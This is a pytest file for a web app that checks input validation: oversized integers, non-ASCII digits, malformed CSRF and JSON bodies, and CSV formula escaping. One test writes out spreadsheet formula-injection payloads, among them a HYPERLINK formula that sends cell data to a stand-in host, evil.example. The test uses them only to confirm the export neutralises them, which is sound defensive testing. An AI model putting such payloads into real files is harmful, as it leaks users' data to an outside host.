"""Findings 4, 5 and 8 (issue 17): integers too large for the database are a 4xx, not
a 500; a review edit with a non-ASCII digit is a one-line 400; CSV cells that a
spreadsheet would run as formulas are neutralised."""
from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from dateline.web import create_app

HUGE = "99999999999999999999999"
INT64_MAX = str(2**63 - 1)


@pytest.fixture()
def quiet_client(store):  # noqa: ANN001, ANN201
    """Server errors come back as 500 responses instead of raising in the test."""
    with TestClient(create_app(store["settings"], engine=store["engine"]),
                    raise_server_exceptions=False) as c:
        yield c


@pytest.mark.parametrize("url", [
    f"/api/events?article={HUGE}", f"/api/events?offset={INT64_MAX}", f"/events?page={HUGE}",
    f"/api/articles/{HUGE}", f"/articles/{HUGE}", f"/articles?page={HUGE}",
    f"/api/articles?offset={INT64_MAX}", f"/api/events?article={INT64_MAX}",
    f"/api/export.csv?article={HUGE}", f"/api/map.geojson?article={HUGE}",
    f"/api/stats?article={HUGE}", f"/events?article={HUGE}", "/api/articles/0",
    f"/articles/1?hl={HUGE}-{HUGE}", "/api/events?offset=-1",
])
def test_out_of_range_integers_are_refused_not_crashed(quiet_client, url):  # noqa: ANN001
    assert quiet_client.get(url).status_code == 422


def test_in_range_integers_still_work(client, store):  # noqa: ANN001
    first = store["article_ids"][0]
    assert client.get(f"/api/articles/{first}").status_code == 200
    assert client.get(f"/api/events?article={first}").json()["total"] == 2
    assert client.get(f"/api/articles/{2**31 - 1}").status_code == 404
    assert client.get("/api/events", params={"offset": 1_000_000_000}).json()["events"] == []


@pytest.mark.parametrize("value", ["²", "٣", "１２", "1e3", "-4", "12345678901234567890", " "])
def test_review_numbers_must_be_plain_digits(quiet_client, auth, value):  # noqa: ANN001
    event_id = quiet_client.get("/api/events").json()["events"][0]["id"]
    r = quiet_client.post(f"/api/events/{event_id}/review", headers=auth,
                          json={"action": "edit", "edits": {"fatalities_min": value,
                                                            "place": "Kyiv"}})
    if value.strip():
        assert r.status_code == 400 and "not a whole number" in r.json()["detail"]
    else:
        assert r.status_code == 200  # blank means "leave it", the place edit goes through


def test_csv_cells_that_are_formulas_are_neutralised(client, auth):  # noqa: ANN001
    events = client.get("/api/events", params={"sort": "date"}).json()["events"]
    hostile = {events[0]["id"]: '=HYPERLINK("http://evil.example/?"&A1,"click")',
               events[1]["id"]: "+1+1", events[2]["id"]: "@SUM(1)"}
    for event_id, place in hostile.items():
        r = client.post(f"/api/events/{event_id}/review", headers=auth,
                        json={"action": "edit", "edits": {"place": place}})
        assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(client.get("/api/export.csv").text)))
    by_id = {row["id"]: row for row in rows}
    for event_id, place in hostile.items():
        assert by_id[event_id]["place"] == "'" + place
    assert all(not row["place"].startswith(("=", "+", "@", "-")) for row in rows)
    assert any(row["lon"] and float(row["lon"]) > 0 for row in rows)  # numbers untouched


def test_spreadsheet_safe_leaves_numbers_and_plain_text():
    from dateline.store.render import spreadsheet_safe

    assert spreadsheet_safe(-3.5) == -3.5 and spreadsheet_safe(-2) == -2
    assert spreadsheet_safe("Kyiv") == "Kyiv" and spreadsheet_safe(None) is None
    assert spreadsheet_safe("-3 killed") == "'-3 killed"
    assert spreadsheet_safe("\t=1") == "'\t=1"


def test_a_non_ascii_csrf_field_is_a_403_not_a_500(quiet_client):  # noqa: ANN001
    """Found by the fuzzing campaign: compare_digest raises on non-ASCII str."""
    quiet_client.get("/login")  # sets the CSRF cookie
    r = quiet_client.post("/logout", data={"csrf_token": "\x80é"})
    assert r.status_code == 403


def test_nan_and_infinity_in_a_body_are_a_422_not_a_500(quiet_client):  # noqa: ANN001
    """Found by the fuzzing campaign: the 422 echoed the input, which JSON cannot carry."""
    for raw in (b'{"name": NaN, "password": Infinity}', b'{"name": 1e999, "password": "x"}'):
        r = quiet_client.post("/api/tokens", content=raw,
                              headers={"Content-Type": "application/json"})
        assert r.status_code == 422 and r.json()["errors"][0]["loc"][0] == "body"
